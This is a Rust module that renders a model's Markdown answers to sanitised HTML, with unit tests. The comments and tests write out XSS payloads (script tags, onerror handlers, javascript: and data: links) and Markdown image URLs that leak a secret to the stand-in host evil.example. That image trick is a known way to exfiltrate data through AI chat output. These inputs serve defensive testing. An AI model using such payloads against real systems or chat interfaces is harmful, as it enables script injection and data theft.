//! Answers from a model, rendered from Markdown to HTML on the server and made safe: raw
//! HTML is shown as text, images are never loaded (an image URL is a way to send data out
//! of a closed network: `![x](https://evil.example/?q=secret)`), and links are kept only
//! for http and https, opening in a new tab without a referrer. Everything else in the
//! output is produced by the Markdown renderer, which escapes text.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd};

fn escape_attr(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// True for absolute http(s) URLs without credentials or control characters.
fn safe_link(url: &str) -> bool {
    let u = url.trim();
    let lower = u.to_ascii_lowercase();
    (lower.starts_with("https://") || lower.starts_with("http://"))
        && !u.chars().any(|c| c.is_control() || c.is_whitespace())
        && !u.split('/').nth(2).is_some_and(|host| host.contains('@'))
}

/// Renders Markdown (tables, lists, code blocks, strikethrough) to safe HTML.
pub fn render(markdown: &str) -> String {
    let parser = Parser::new_ext(
        markdown,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    // Which opened links were kept, so their ends match.
    let mut link_stack: Vec<bool> = Vec::new();
    let events = parser.map(|ev| match ev {
        Event::Html(s) | Event::InlineHtml(s) => Event::Text(s),
        Event::Start(Tag::Image { .. }) => Event::Text(CowStr::Borrowed("［画像: ")),
        Event::End(TagEnd::Image) => Event::Text(CowStr::Borrowed("］")),
        Event::Start(Tag::Link { dest_url, .. }) => {
            let keep = safe_link(&dest_url);
            link_stack.push(keep);
            if keep {
                Event::InlineHtml(CowStr::from(format!(
                    "<a href=\"{}\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">",
                    escape_attr(dest_url.trim())
                )))
            } else {
                Event::Text(CowStr::Borrowed(""))
            }
        }
        Event::End(TagEnd::Link) => {
            if link_stack.pop().unwrap_or(false) {
                Event::InlineHtml(CowStr::Borrowed("</a>"))
            } else {
                Event::Text(CowStr::Borrowed(""))
            }
        }
        other => other,
    });
    let mut out = String::with_capacity(markdown.len() * 2);
    pulldown_cmark::html::push_html(&mut out, events);
    out
}

#[cfg(test)]
mod tests {
    use super::render;

    /// Every tag in the output is one the renderer makes, with harmless attributes, and
    /// every link is http(s). Text is escaped, so a `<` in the output always opens a tag.
    fn no_active_content(html: &str) {
        const TAGS: &[&str] = &[
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "code",
            "pre",
            "em",
            "strong",
            "del",
            "blockquote",
            "a",
            "br",
            "hr",
        ];
        for tag in html.split('<').skip(1) {
            let inner = tag.split('>').next().unwrap();
            let inner = inner.trim_start_matches('/');
            let name = inner
                .split_whitespace()
                .next()
                .unwrap_or("")
                .trim_end_matches('/');
            assert!(TAGS.contains(&name), "tag <{inner}> in {html}");
            let mut rest = inner[name.len()..].trim();
            while let Some(eq) = rest.find("=\"") {
                let key = rest[..eq].trim();
                let after = &rest[eq + 2..];
                let end = after.find('"').unwrap();
                let value = &after[..end];
                assert!(
                    ["href", "rel", "target", "class", "style", "start"].contains(&key),
                    "attribute {key} in {html}"
                );
                if key == "href" {
                    assert!(
                        value.starts_with("http://") || value.starts_with("https://"),
                        "{value}"
                    );
                }
                rest = after[end + 1..].trim();
            }
        }
    }

    #[test]
    fn formats_tables_lists_and_code() {
        let html = render("# 見出し\n\n- 一\n- 二\n\n| 項目 | 値 |\n|---|---|\n| 人口 | 12,345 |\n\n```rust\nlet x = \"<b>\";\n```\n");
        assert!(html.contains("<h1>見出し</h1>"));
        assert!(html.contains("<li>一</li>"));
        assert!(html.contains("<table>") && html.contains("<td>12,345</td>"));
        assert!(html.contains("<code class=\"language-rust\">") && html.contains("&lt;b&gt;"));
    }

    #[test]
    fn raw_html_and_scripts_are_text() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<div onclick=\"alert(1)\">x</div>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<style>body{display:none}</style>",
        ] {
            let html = render(attack);
            no_active_content(&html);
            assert!(html.contains("&lt;"), "{attack} shown as text: {html}");
        }
    }

    #[test]
    fn links_only_http_and_https() {
        let html = render("[市のサイト](https://www.city.example.lg.jp/) と [x](javascript:alert(1)) と [y](data:text/html,<b>) と [z](JaVaScRiPt:alert(1))");
        assert!(html.contains("<a href=\"https://www.city.example.lg.jp/\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">市のサイト</a>"));
        no_active_content(&html);
        assert!(html.contains(">x<") || html.contains(" x "), "{html}");
        let html = render("<javascript:alert(1)> <https://example.jp/a?b=\"c\">");
        no_active_content(&html);
        assert!(
            html.contains("href=\"https://example.jp/a?b=%22c%22\"")
                || html.contains("href=\"https://example.jp/a?b=&quot;c&quot;\""),
            "{html}"
        );
        let html = render("[認証情報](https://user:pass@evil.example/)");
        no_active_content(&html);
        assert!(!html.contains("<a "), "{html}");
    }

    #[test]
    fn images_never_load() {
        for md in [
            "![x](https://evil.example/?q=secret)",
            "![x][r]\n\n[r]: https://evil.example/?q=secret",
            "[![x](https://evil.example/i.png)](https://evil.example/)",
            "<img src=\"https://evil.example/?q=secret\">",
        ] {
            let html = render(md);
            assert!(!html.contains("<img"), "{md} -> {html}");
            no_active_content(&html);
        }
        assert!(render("![図1](https://x.example/a.png)").contains("［画像: 図1］"));
    }
}
